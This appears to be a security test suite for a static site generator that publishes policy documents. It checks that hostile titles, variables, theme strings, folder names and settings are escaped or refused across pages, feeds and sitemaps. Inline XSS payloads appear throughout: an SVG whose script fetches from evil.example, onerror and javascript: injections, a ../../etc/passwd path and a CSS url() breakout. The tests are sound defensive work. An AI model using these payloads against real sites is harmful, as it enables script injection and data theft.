// Every field that an author or a translator controls, every place that it reaches, and a public list of
// payloads: nothing runs, nothing is sent, and the words are still there.
import assert from 'node:assert/strict';
import fs from 'node:fs';
import path from 'node:path';
import { after, before } from 'node:test';
import { assertHarmless, settle, touch } from './hostile.mjs';
import { ROOT, build, commit, engross, filesOf, host, launch, open, siteOf, temp, test } from './lib.mjs';
import { ADDRESSES, BREAKOUTS, ELEMENTS } from './payloads.mjs';

const ALL = [...BREAKOUTS, ...ELEMENTS, ...ADDRESSES];
const BASE = 'https://policies.example.com/';
const LAST = 'The last words.';
/** A picture that runs something is not published: see below. */
const HOSTILE_DOT = '<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9" onload="parent.__pwned=1"><script>parent.__pwned=1;'
  + 'fetch("https://evil.example/svg")</script><image href="https://evil.example/in.svg" width="9" height="9"/></svg>';
const DOT = '<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"><circle r="4"/></svg>';

const quoted = (text) => JSON.stringify(text);
/** Without control characters, which a feed leaves out. */
const plain = (text) => text.replace(/[\u0001-\u0008\u000b\u000c]/g, '');
const range = (length) => Array.from({ length }, (_, at) => at);
/** A part of all payloads as one text: of all parts together each payload stands somewhere. */
const part = (at, parts) => plain(ALL.filter((_, n) => n % parts === at).join(' '));

let browser;
before(async () => {
  browser = await launch();
});
after(() => browser?.close());

function write(root, files) {
  for (const [name, text] of Object.entries(files)) {
    fs.mkdirSync(path.dirname(path.join(root, name)), { recursive: true });
    fs.writeFileSync(path.join(root, name), text);
  }
}

function archive(root, document, day, ...options) {
  const { status, stderr } = engross('archive', document, '--root', root, '--effective', day, ...options);
  assert.equal(status, 0, stderr);
}

/** Opens the pages of a built site but for those like `others`; then looks at what it holds for machines. */
async function assertSite(site, says, others = /^$/) {
  const served = await host(site);
  const pages = filesOf(site).filter((file) => file.endsWith('.html')).map((file) => `/${file.replace(/index\.html$/, '')}`);
  await assertHarmless(browser, served.origin, pages.filter((page) => !others.test(page)).map((page) => encodeURI(page)), says);
  await assertMachines(served.origin, site);
  served.close();
  return pages;
}

/** Feeds, the sitemap and JSON: well-formed, with a type that runs nothing, and with HTML in them that does nothing. */
async function assertMachines(origin, site) {
  const empty = temp();
  write(empty, { 'index.html': '<!doctype html><title>A feed reader</title>' });
  const reader = await host(empty);
  const { page, context, faults } = await open(browser, reader.origin);
  await page.goto(`${reader.origin}/`);
  for (const file of filesOf(site).filter((name) => /\.(xml|json)$/.test(name))) {
    const response = await fetch(`${origin}/${encodeURI(file)}`);
    assert.match(response.headers.get('content-type'), /^application\/(xml|json)$/, file);
    assert.equal(response.headers.get('x-content-type-options'), 'nosniff', file);
    const text = await response.text();
    if (file.endsWith('.json')) JSON.parse(text);
    else assert.deepEqual(await page.evaluate(read, [text, BASE]), [], file);
  }
  await settle(page);
  assert.equal(await page.evaluate(() => window.__pwned), undefined);
  assert.deepEqual(faults, []);
  reader.close();
  await context.close();
}

/** What is wrong with a feed or a sitemap; the entries of a feed are shown, as a careless reader would. */
function read([text, base]) {
  const xml = new DOMParser().parseFromString(text, 'application/xml');
  const found = [...xml.querySelectorAll('parsererror')].map((error) => error.textContent);
  const known = 'feed id title updated author name link entry summary content urlset url loc lastmod'.split(' ');
  found.push(...[...xml.querySelectorAll('*')].map((e) => e.localName).filter((name) => !known.includes(name)));
  const addresses = [...xml.querySelectorAll('link')].map((link) => link.getAttribute('href'));
  addresses.push(...[...xml.querySelectorAll('loc')].map((loc) => loc.textContent));
  found.push(...addresses.filter((address) => !address.startsWith(base)));
  for (const content of xml.querySelectorAll('content, [type=html]')) {
    const shown = document.body.appendChild(document.createElement('div'));
    shown.innerHTML = content.textContent;
    found.push(...[...shown.querySelectorAll('*')].filter((e) => !e.matches('p, strong, em, del, ins') || e.attributes.length).map((e) => e.outerHTML));
  }
  return found;
}

test('nearly all payloads do something where nothing makes them harmless', async () => {
  const frames = ELEMENTS.map((payload, at) => [`${at}.html`, `<!doctype html><title>x</title>${payload}`]);
  const shown = frames.map(([name], at) => `<iframe name=p${at} src=${name}></iframe>`);
  const folder = temp();
  write(folder, { ...Object.fromEntries(frames), 'index.html': `<!doctype html>${shown.join('\n')}` });
  const served = await host(folder);
  const { page, context } = await open(browser, served.origin);
  const live = new Set();
  const within = (frame) => (/^p\d+$/.test(frame.name()) ? frame : frame.parentFrame() ?? frame).name();
  context.on('request', (request) => new URL(request.url()).host === 'evil.example' && live.add(within(request.frame())));
  await page.goto(`${served.origin}/`);
  for (const frame of page.frames().filter((frame) => /^p\d+$/.test(frame.name()))) {
    await touch(frame).catch(() => live.add(frame.name())); // It has left.
    if (await frame.evaluate(() => window.__pwned).catch(() => 1)) live.add(frame.name());
  }
  const dead = ELEMENTS.filter((_, at) => !live.has(`p${at}`));
  assert.ok(dead.length < ELEMENTS.length / 4, `${dead.length} do nothing:\n${dead.join('\n')}`);
  await context.close();
  served.close();
});

/** Each payload as the value of a variable, in every place that takes words. */
const WHOLE = `# Words\n\n${ALL.map((_, n) => `## [[p${n}]]

Words **[[p${n}]]**, \`[[p${n}]]\`[^n${n}], ![[[p${n}]]](dot.svg "[[p${n}]]") and [a link](https://example.com/ "[[p${n}]]").

| [[p${n}]] | x |
| --- | --- |
| [[p${n}]] | y |

> [!NOTE] [[p${n}]]
> - [[p${n}]]

[^n${n}]: [[p${n}]]
`).join('\n')}\n${LAST}\n`;

/** Each payload once, in a place that can be frozen. */
const words = (turn) => {
  const places = [(p) => `## ${p}`, (p) => `Words ${p}.`, (p) => `| ${p} | x |\n| --- | --- |\n| y | z |`, (p) => `- ${p}`, (p) => `[a link](https://example.com/ "${p}")`,
    (p) => `![${p}](dot.svg "${p}")`, (p) => `> ${p}`];
  return `# Words\n\n${ALL.map((_, n) => places[n % places.length](`[[p${(n + turn) % ALL.length}]]`)).join('\n\nBetween.\n\n')}\n\n${LAST}\n`;
};

/** The strings of a language with a payload behind each. Braces mean something in them. */
function strings(locale) {
  const safe = ALL.filter((payload) => !/[{}]/.test(payload)).map((payload) => plain(payload).trim());
  let at = 0;
  const lines = fs.readFileSync(path.join(ROOT, `themes/default/strings/${locale}.ftl`), 'utf8').split('\n');
  const has = (line) => /^([\w-]+ =| +\*?\[\w+\]) \S/.test(line) && !/\{ \$\w+ ->$/.test(line);
  return lines.map((line) => (has(line) ? `${line} ${safe[at++ % safe.length]}` : line)).join('\n');
}

test('hostile values of variables and hostile strings of the theme, in texts, versions and comparisons', async () => {
  const settings = (title) => `[site]\nbase_url = "${BASE}"\n${title}\n[versions]\ncompare = "all"\n[variables]\n`
    + ALL.map((payload, n) => `p${n} = ${quoted(plain(payload))}`).join('\n');
  const german = `# Wörter\n\n${ALL.slice(0, 40).map((_, n) => `[[p${n}]]`).join('\n\n')}\n\n${LAST}\n`;
  const root = siteOf({
    'engross.toml': settings(''), 'content/w/en.md': words(0), 'content/w/de.md': german, 'content/w/dot.svg': DOT,
    'content/whole/en.md': WHOLE, 'content/whole/dot.svg': DOT,
    'themes/default/strings/en.ftl': strings('en'), 'themes/default/strings/de.ftl': strings('de'),
  });
  archive(root, 'w', '2020-01-01');
  commit(root, 'Archived', '2026-01-02T13:00:00Z');
  write(root, { 'content/w/en.md': words(1) });
  commit(root, 'Changed', '2026-01-03T12:00:00Z');
  archive(root, 'w', '2026-01-03', '--behind');
  commit(root, 'Archived', '2026-01-03T13:00:00Z');
  const site = build(root);
  const pages = await assertSite(site, (page) => (/\/w\/(2\d\S+\/|compare\/\S+)?$/.test(page) && !/^\/w/.test(page) ? LAST : undefined));
  for (const page of ['/en/w/2020-01-01/', '/en/w/compare/2020-01-01/2026-01-03/', '/de/w/compare/original/', '/de/w/versions/by-date/']) assert.ok(pages.includes(page), page);

  // Every payload is there as words, wherever it stood.
  const served = await host(site);
  const { page, context } = await open(browser, served.origin);
  await page.goto(`${served.origin}/en/whole/`);
  const shown = await page.evaluate(() => {
    for (const link of document.querySelectorAll('.permalink, .footnotes a, sup')) link.remove();
    const texts = (selector) => [...document.querySelectorAll(selector)].map((e) => e.textContent);
    const attributes = (selector, name) => [...document.querySelectorAll(selector)].map((e) => e.getAttribute(name));
    return {
      headings: texts('.text h2'), strong: texts('.text p > strong'), code: texts('.text code'), heads: texts('.text th:first-child'),
      cells: texts('.text td:first-child'), items: texts('.text .alert li'), boxes: texts('.text .alert-title'), notes: texts('.footnotes p'),
      alternatives: attributes('.text img', 'alt'), titles: attributes('.text a[href="https://example.com/"]', 'title'),
    };
  });
  const flat = (text) => (text ?? '').replace(/\s+/g, ' ').trim();
  const expected = ALL.map((payload) => flat(plain(payload)));
  for (const [place, found] of Object.entries(shown)) assert.deepEqual(found.map(flat), expected, place);
  await context.close();
  served.close();
});

/** Names of folders, as far as a file system takes them. */
const NAMES = ['"><img src=x onerror=window.__pwned=1>', `' onmouseover='window.__pwned=1`, 'javascript:window.__pwned=1', '&lt;img src=x&gt;',
  '"><svg onload=window.__pwned=1>/<b>in', '{{ 7*7 }}', '%22%3E%3Cscript%3E', '..%2f..%2fevil', 'con"quote', '-->', '`x`'];

test('hostile settings, titles, descriptions, notes and names, on every page', async () => {
  const parts = 4;
  const settings = `[site]\nbase_url = "${BASE}"\ntitle = ${quoted(part(0, parts))}\norganization = ${quoted(part(1, parts))}\n`
    + `source = "https://evil.example/x'y&quot;"\n[theme]\nlogo = "content/dot.svg"\n[theme.footer]\nen = ${quoted(part(2, parts))}\nde = ${quoted(part(3, parts))}\n`
    + `[legal]\nprevailing = "en"\n[legal.jurisdiction]\nen = ${quoted(part(3, parts))}\nde = ${quoted(part(0, parts))}\n`
    + `[[exceptions]]\nfile = "content/d0/de.md"\nfinding = "structure-links"\nreason = ${quoted(part(1, parts))}\n`;
  const text = (at, locale, more = '') => `---\ntitle: ${quoted(part(at, parts))}\ndescription: ${quoted(part((at + 1) % parts, parts))}\n`
    + `${locale === 'de' ? `translates: ${quoted(BREAKOUTS[at])}\n` : ''}x-other: ${quoted(BREAKOUTS[at])}\n---\n\nWords ${more}.\n\n${LAST}\n`;
  const documents = range(parts);
  const texts = (more) => Object.fromEntries(documents.flatMap((at) => ['en', 'de'].map((locale) => [`content/d${at}/${locale}.md`, text(at, locale, more)])));
  const named = NAMES.map((name) => [`content/${name}/en.md`, `A text without a title.\n\n${LAST}\n`]);
  const root = siteOf({ 'engross.toml': settings, 'content/dot.svg': DOT, ...texts('once'), ...Object.fromEntries(named) });
  const notes = (at) => ['--note', part(at, parts), '--note', `de=${part((at + 2) % parts, parts)}`, '--behind'];
  for (const at of documents) archive(root, `d${at}`, '2020-01-01', ...notes(at));
  commit(root, 'Archived', '2026-01-02T13:00:00Z');
  write(root, texts('twice'));
  commit(root, 'Changed', '2026-01-03T12:00:00Z');
  for (const at of documents) archive(root, `d${at}`, at === 1 ? '2999-01-01' : '2026-01-03', ...notes((at + 1) % parts), ...(at === 2 ? ['--withdraw'] : []));
  commit(root, 'Archived', '2026-01-03T13:00:00Z');
  const site = build(root);
  const ofText = (page) => /^\/(en|de)\/d\d\/(2\S+\/|compare\/\S+)?$/.test(page);
  // Of the other documents not every page differs in kind.
  const pages = await assertSite(site, (page) => (ofText(page) ? LAST : undefined), /^\/de\/(?!d\d\/$|d0\/|$)|^\/(?!de\/|en\/|404|d0\/|$)/);
  assert.equal(pages.filter((page) => /^\/en\/(?!d\d\/)./.test(page)).length, NAMES.length, pages.join('\n'));
  assert.ok(fs.existsSync(path.join(site, 'files/content/dot.svg')));

  const served = await host(site);
  const { page, context } = await open(browser, served.origin);
  const flat = (words) => words.replace(/\s+/g, ' ').trim();
  for (const at of documents) {
    await page.goto(`${served.origin}/en/d${at}/`);
    const meta = await page.evaluate(() => ({
      title: document.title, ...Object.fromEntries([...document.querySelectorAll('meta[property], meta[name=description]')].map((e) => [e.getAttribute('property') ?? e.name, e.content])),
      data: JSON.parse(document.querySelector('script[type="application/ld+json"]').textContent), body: document.body.textContent,
    }));
    const [title, description] = [part(at, parts), part((at + 1) % parts, parts)];
    assert.equal(flat(meta.title), flat(`${title} · ${part(0, parts)}`));
    assert.deepEqual([meta['og:title'], meta['og:site_name'], meta['og:description'], meta.description].map(flat), [title, part(0, parts), description, description].map(flat));
    assert.deepEqual([meta.data.name, meta.data.description, meta.data.publisher.name, meta.data.isPartOf.name], [title, description, part(1, parts), part(0, parts)]);
    for (const own of [part(1, parts), part(2, parts), part(3, parts)]) assert.ok(flat(meta.body).includes(flat(own)), own);
  }
  const { versions } = JSON.parse(fs.readFileSync(path.join(site, 'en/d0/versions.json'), 'utf8'));
  assert.deepEqual(versions.map((version) => version.note.text), [part(1, parts), part(0, parts)]);
  await context.close();
  served.close();
});

/** Where a typed payload may stand, a line each. */
const PLACES = [
  (p) => `${p} --> ]]> ?> </script></style></textarea></pre>`, (p) => `Words ${p} in a line.`, (p) => `### ${p}`, (p) => `| ${p.replaceAll('|', '')} | x |\n| --- | --- |\n| ${p} | y |`,
  (p) => `- ${p} -->`, (p) => `[${p}](https://example.com/)`, (p) => `[link](<${p}>)`, (p) => `![image](<${p}>)`, (p) => `[title](https://example.com/ '${p}')`,
  (p) => `[id](#x)\n{: #x${p} }`, (p) => `<a href="${p}">raw</a> <a href='${p}'>raw</a> <a href=${p}>raw</a>`, (p) => `<b title="${p}" lang="${p}" dir="${p}" id="${p}">raw</b>`,
];

test('typed payloads: links that run something are refused, everything else is made harmless', async () => {
  const settings = `[site]\nbase_url = "${BASE}"\n[content]\nhtml = "sanitize"\n`;
  const documents = ['t0', 't1', 't2', 't3'];
  const typed = (document, refused) => PLACES.flatMap((place, at) => (at % documents.length === documents.indexOf(document)
    ? ALL.map((payload, n) => ({ key: `${at}/${n}`, text: place(payload) })).filter(({ key }) => !refused.has(key)) : []));
  const files = (refused, turn = '') => Object.fromEntries(documents.map((document) =>
    [`content/${document}/en.md`, `# Typed\n\n${typed(document, refused).map(({ text }) => text).join(`\n\nBetween${turn}.\n\n`)}\n\n${LAST}\n`]));
  const first = files(new Set());
  const root = siteOf({ 'engross.toml': settings, ...first });
  const { stdout } = engross('check', '--root', root, '--format', 'json');
  const errors = JSON.parse(stdout).findings.filter((found) => found.severity === 'error');
  assert.deepEqual([...new Set(errors.map((found) => found.code))], ['link-unsafe']);
  const at = ({ path: file, line }) => first[file].split('\n').slice(0, line).filter((before) => before === 'Between.').length;
  const refused = new Set(errors.map(({ place }) => typed(place.path.split('/')[1], new Set())[at(place)].key));
  // Every address that is one of a scheme that runs something.
  const runs = ALL.map((p, n) => [p.replace(/^[\s\u0001]+/, ''), n]).filter(([p]) => /^(javascript|vbscript|data|blob):/i.test(p) && !/[<>]/.test(p));
  assert.ok(runs.length > 5);
  for (const [payload, n] of runs) for (const at of [6, 7]) assert.ok(refused.has(`${at}/${n}`), `${PLACES[at](payload)} is not refused`);

  write(root, files(refused));
  commit(root, 'What is allowed', '2026-01-03T12:00:00Z');
  for (const document of documents) archive(root, document, '2020-01-01');
  write(root, files(refused, ' again'));
  commit(root, 'Changed', '2026-01-04T12:00:00Z');
  const site = build(root);
  await assertSite(site, (page) => (/^\/en\/t\d+\/(2\S+\/)?$/.test(page) ? LAST : undefined), /versions|^\/t/);
});

test('settings and front matter that cannot be words are refused, and nothing is written', () => {
  const evil = BREAKOUTS[0];
  const site = (more) => ({ 'engross.toml': `[site]\nbase_url = "${BASE}"\n${more}\n` });
  const refused = [
    { 'engross.toml': `[site]\nbase_url = ${quoted(`https://x/${evil}`)}\n` }, { 'engross.toml': '[site]\nbase_url = "javascript:window.__pwned=1"\n' },
    site(`source = ${quoted(`https://x/${evil}`)}`), site('source = "javascript:window.__pwned=1"'), site(`theme = ${quoted(`../${evil}`)}`),
    { ...site('[theme]\nlogo = "content/dot.svg"'), 'content/dot.svg': HOSTILE_DOT }, { ...site(''), 'content/a\tb/en.md': '# P\n' }, { ...site(''), 'content/n\n::error/en.md': '# P\n' },
    site('[theme]\nlogo = "../../etc/passwd"'), site('[theme]\nlogo = "https://evil.example/logo.svg"'), site(`[theme]\naccent = ${quoted(`#000;}*{background:url(//evil.example)}`)}`),
    site(`[legal]\nprevailing = ${quoted(evil)}`), site(`[locales]\nsource = ${quoted(evil)}`), site(`[locales]\npublish = [${quoted(evil)}]`),
    { ...site(''), 'content/p/en.md': `---\neffective: ${quoted(evil)}\n---\n# P\n` }, { ...site(''), 'content/p/en.md': `---\npublished: ${quoted(evil)}\n---\n# P\n` },
    { ...site(''), [`versions/p/"><b>/version.toml`]: 'effective = 2020-01-01\n' }, { ...site(''), [`versions/p/2020-01-01/"><b>.md`]: '# P\n' },
  ];
  for (const files of refused) {
    const root = siteOf({ 'content/p/en.md': '# P\n', ...files });
    const output = path.join(temp(), 'site');
    const { status, stderr } = engross('build', '--root', root, '--output', output);
    assert.notEqual(status, 0, Object.values(files).join('\n'));
    assert.ok(!fs.existsSync(output), stderr);
  }
});
